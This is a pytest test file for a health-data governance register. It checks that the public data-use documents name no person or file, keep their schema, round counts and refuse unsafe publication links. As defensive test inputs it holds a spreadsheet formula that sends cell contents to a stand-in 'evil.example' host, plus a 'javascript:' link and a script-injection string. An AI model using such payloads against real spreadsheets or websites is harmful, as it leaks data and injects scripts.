"""What the public is told: all of what the register publishes and nothing else, coarse, and safe to open."""

from __future__ import annotations

import csv
import io
import json
import tomllib
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from importlib.resources import files

import jsonschema
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy.orm import Session

from governance import registry
from governance.clock import now, today
from governance.data_uses.document import COLUMNS, FORMULA, defuse, to_csv, to_json
from governance.data_uses.entries import DataUse, read_data_uses
from governance.data_uses.figures import read_figures
from governance.data_uses.holdings import read_holdings
from governance.data_uses.rounding import coarse
from governance.data_uses.schema import SCHEMA
from governance.data_uses.words import HONOURED, TABLES
from governance.refusal import Refusal
from governance.registry import Publication
from governance.registry.publication import check_link
from governance.roles import Purpose
from governance.settings import Settings
from governance.store import Store
from governance.store.airlock import EgressFile, EgressRelease, EgressReleasedFile, EgressRequest, EgressTurn
from governance.store.channels import QueryReceipt
from governance.store.intake import Delivery, RegionVersion
from governance.store.people import Person
from governance.store.projects import Extract, Project
from intake.optouts.policy import policy_on
from intake.optouts.words import Kind, Use

ACTOR = "service:test"


@pytest.fixture
def told(demo_register: Store) -> Iterator[Store]:
    """The demonstration's register with a release, a publication, a draft, a closed project and a region."""
    until = today() + timedelta(days=30)
    for slug in ("draft-one", "closed-one"):
        registry.create_project(
            demo_register, actor=ACTOR, slug=slug, title=slug, purpose="national", mode="aggregate", profile="hes",
            ends=until,
        )  # fmt: skip
    registry.grant_table(demo_register, actor=ACTOR, slug="closed-one", table="death")
    registry.revoke_grant(demo_register, actor=ACTOR, slug="closed-one", table="death")
    registry.change_project(demo_register, actor=ACTOR, slug="closed-one", status="closed")
    with demo_register.transaction() as session:
        session.get_one(Project, "draft-one").status = "draft"
        add_release(session, "r1", "released", days=3)
        add_release(session, "r2", "recalled", days=3)
        add_region(session)
        made = {"folder": "x", "sha256": "0" * 64, "rows": 5, "created_at": now(), "origin": "region"}
        session.add(Extract(project_slug="gi-bleed", people=2_694, **made))
    yield demo_register


def add_release(session: Session, name: str, state: str, days: int) -> None:
    """One released request of two files, asked for `days` before yesterday."""
    moment = now() - timedelta(days=1)
    request = EgressRequest(id=name, project_slug="gi-bleed", author="researcher-a", state=state, turn=1,
                            created_at=moment, changed_at=moment)  # fmt: skip
    request.files = [EgressFile(name="secret-name.csv", sha256="0" * 64, size=1, added_turn=1) for _ in range(2)]
    session.add(request)
    session.flush()
    asked = moment - timedelta(days=days)
    session.add(EgressTurn(request_id=name, turn=1, submitted_at=asked, due_at=moment, words="{}"))
    release = EgressRelease(request_id=name, folder="f", manifest_sha256="0" * 64, released_at=moment)
    release.files = [
        EgressReleasedFile(file_id=file.id, name=file.name, approved_sha256="0" * 64, released_sha256="0" * 64,
                           released_size=1)
        for file in request.files
    ]  # fmt: skip
    session.add(release)


def add_region(session: Session) -> None:
    """A region of one GP delivery."""
    months = {"2009-03": 4, "2019-05": 400, "2024-06": 99, "2025-01": 100}
    summary = json.dumps({"tables": [{"table": "journal", "months": months}, {"table": "practice", "months": None}]})
    session.add(Delivery(id="d", number=1, feed="gp", sha256="0" * 64, state="accepted", received_at=now(), bytes=1,
                         rows_in=60_123, rows_kept=60_049, summary=summary))  # fmt: skip
    session.add(
        RegionVersion(id="v", folder="v", sha256="0" * 64, deliveries="d", people=20_049, rows=9, created_at=now())
    )


def uses_of(store: Store) -> dict[str, DataUse]:
    with store.reading() as session:
        return {use.slug: use for use in read_data_uses(session)}


def test_a_project_is_told_with_all_that_the_register_publishes(told: Store) -> None:
    registry.add_published(
        told, actor=ACTOR, slug="gi-bleed", title="Paper", link="https://example.org/p", published_on=today()
    )
    registry.add_intended_output(told, actor=ACTOR, slug="gi-bleed", title="Table 2")
    use = uses_of(told)["gi-bleed"]
    assert use.status == "running"
    assert use.public_benefit and use.legal_basis and use.summary
    assert use.organisations == ("Northbridge University", "Northbridge NHS ICB")
    assert [data.words for data in use.data] == [TABLES["*"]]
    assert use.people == 2_700
    assert (use.released.releases, use.released.files) == (1, 2)  # the one called back is not counted
    assert [output.title for output in use.intended] == ["Table 2"]
    assert [output.link for output in use.published] == ["https://example.org/p"]


def test_a_draft_is_told_to_nobody_and_an_ended_project_stays(told: Store) -> None:
    uses = uses_of(told)
    assert "draft-one" not in uses
    assert uses["closed-one"].is_past
    assert [data.table for data in uses["closed-one"].data] == ["death"]
    assert list(uses)[-1] == "closed-one"


def test_suspended_unstarted_and_run_out_projects_say_so(told: Store) -> None:
    day = today()
    registry.change_project(told, actor=ACTOR, slug="gi-bleed", status="suspended")
    registry.change_project(told, actor=ACTOR, slug="respiratory", starts=day + timedelta(days=1))
    registry.change_project(
        told, actor=ACTOR, slug="dementia-nation", starts=day - timedelta(days=9), ends=day - timedelta(days=1)
    )
    states = {slug: use.status for slug, use in uses_of(told).items()}
    assert (states["gi-bleed"], states["respiratory"], states["dementia-nation"]) == ("paused", "not started", "ended")


def test_no_document_names_a_person_or_a_file(told: Store) -> None:
    with told.reading() as session:
        uses = read_data_uses(session)
        people = [(person.subject, person.name) for person in session.query(Person)]
    for text in (to_json(uses, today()), to_csv(uses)):
        assert "secret-name" not in text
        assert not [name for pair in people for name in pair if f'"{name}"' in text or f" {name} " in text]
        assert "Amara" not in text and "researcher-a" not in text


def test_the_json_keeps_its_schema(told: Store) -> None:
    with told.reading() as session:
        document = json.loads(to_json(read_data_uses(session), today()))
    jsonschema.Draft202012Validator.check_schema(SCHEMA)
    jsonschema.validate(document, SCHEMA)
    document["data_uses"][0]["people"] = 2_694
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(document, SCHEMA)


def test_the_csv_has_a_line_a_project_and_no_formula(told: Store) -> None:
    evil = '=HYPERLINK("https://evil.example/?"&A1)'
    registry.change_project(told, actor=ACTOR, slug="gi-bleed", title=evil)
    with told.reading() as session:
        uses = read_data_uses(session)
    rows = list(csv.DictReader(io.StringIO(to_csv(uses), newline="")))
    assert len(rows) == len(uses) and set(rows[0]) == set(COLUMNS)
    assert {row["title"] for row in rows if row["short_name"] == "gi-bleed"} == {f"'{evil}"}


@given(st.text(max_size=20), st.text(alphabet=" \t", max_size=2), st.sampled_from(FORMULA))
def test_no_cell_begins_as_a_formula(text: str, space: str, first: str) -> None:
    for cell in (text, space + first + text):
        made = defuse(cell)
        assert not made.lstrip().startswith(FORMULA)
        assert made.removeprefix("'") == cell or made == cell


@given(st.integers(min_value=0, max_value=10**9))
def test_people_are_told_coarsely(count: int) -> None:
    told = coarse(count)
    if count < 1_000:
        assert told is None
    else:
        assert told is not None and told % 100 == 0 and abs(told - count) <= max(50, count * 0.005)


def test_what_is_held_is_told_in_years_and_rounded(told: Store) -> None:
    with told.reading() as session:
        held = read_holdings(session)
    assert held is not None and held.people == 20_000
    (source,) = held.sources
    assert (source.name, source.records) == ("GP practices", 60_000)
    assert (source.first_year, source.last_year) == (2019, 2025)  # 2009 and 2024 rest on too few rows


def test_figures_end_yesterday(told: Store) -> None:
    day = today()
    midnight = datetime(day.year, day.month, day.day, tzinfo=UTC)
    with told.transaction() as session:
        for number, (moment, verdict) in enumerate(
            [
                (midnight - timedelta(seconds=1), "answered"),
                (midnight - timedelta(hours=1), "refused"),
                (midnight, "answered"),
            ]
        ):
            session.add(QueryReceipt(id=f"q{number}", project_slug="gi-bleed", subject="researcher-a", asked_at=moment,
                                     sql="SELECT 1", verdict=verdict, policy_version="v",
                                     cells=10, suppressed_cells=3))  # fmt: skip
    with told.reading() as session:
        figures = read_figures(session, day)
    assert (figures.questions_answered, figures.questions_refused) == (1, 1)
    assert (figures.numbers_told, figures.numbers_hidden) == (10, 3)
    assert (figures.outputs_asked, figures.outputs_released, figures.outputs_recalled) == (2, 2, 1)
    assert figures.files_released == 4 and figures.median_days == 3.0


def test_the_opt_outs_said_to_be_honoured_are_those_the_intake_closes() -> None:
    policy = policy_on(today())
    for purpose in Purpose:
        closing = {rule.kind.value for rule in policy.closing(Use(purpose.value))}
        assert set(HONOURED[purpose]) == closing - {Kind.SUMMARY_CARE_RECORD.value}


def test_every_table_that_a_project_can_be_given_has_plain_words() -> None:
    written = (files("intake.omop") / "tables.toml").read_text(encoding="utf-8")
    assert set(tomllib.loads(written)) <= set(TABLES)


@pytest.mark.parametrize(
    "link",
    ["http://example.org/a", "javascript:alert(1)", "https://user:pw@example.org/", "https://", "https://localhost/x",
     "https://example.org/a b", "https://example.org/\n", "https://[::1", 'https://example.org/"><script>',
     "//example.org",
     "https://exämple.org/", "https://example.org/" + "a" * 600],
)  # fmt: skip
def test_only_plain_https_links_are_published(link: str) -> None:
    with pytest.raises(Refusal) as refused:
        check_link(link + "x" if link.endswith("\n") else link)
    assert refused.value.code == "bad-link"


def test_a_description_names_nobody_and_only_an_administrator_writes_it(told: Store) -> None:
    good = Publication("Better care.", "Article 6(1)(e)", ("Trust", "Trust"), "Trust", "None")
    with pytest.raises(Refusal, match="long number"):
        registry.describe_project(
            told, actor=ACTOR, slug="gi-bleed", publication=replace(good, public_benefit="943 476 5919")
        )
    with pytest.raises(Refusal) as refused:
        registry.describe_project(told, actor="steward", slug="gi-bleed", publication=good)
    assert refused.value.code == "role-missing"
    registry.describe_project(told, actor="admin", slug="gi-bleed", publication=good)
    assert uses_of(told)["gi-bleed"].organisations == ("Trust",)


def test_a_link_taken_off_is_gone_and_not_listed_twice(told: Store) -> None:
    add = {"slug": "gi-bleed", "title": "Paper", "link": "https://example.org/p", "published_on": today()}
    number = registry.add_published(told, actor=ACTOR, **add)
    with pytest.raises(Refusal, match="already"):
        registry.add_published(told, actor=ACTOR, **add)
    with pytest.raises(Refusal, match="no such publication"):
        registry.withdraw_published(told, actor=ACTOR, slug="respiratory", number=number)
    with pytest.raises(Refusal, match="not published yet"):
        registry.add_published(told, actor=ACTOR, **{**add, "published_on": date.max})
    registry.withdraw_published(told, actor=ACTOR, slug="gi-bleed", number=number)
    assert uses_of(told)["gi-bleed"].published == ()


def test_organisations_of_members_stand_in(told: Store, settings: Settings) -> None:
    registry.describe_project(told, actor=ACTOR, slug="gi-bleed", publication=Publication())
    assert uses_of(told)["gi-bleed"].organisations == ("Northbridge University",)
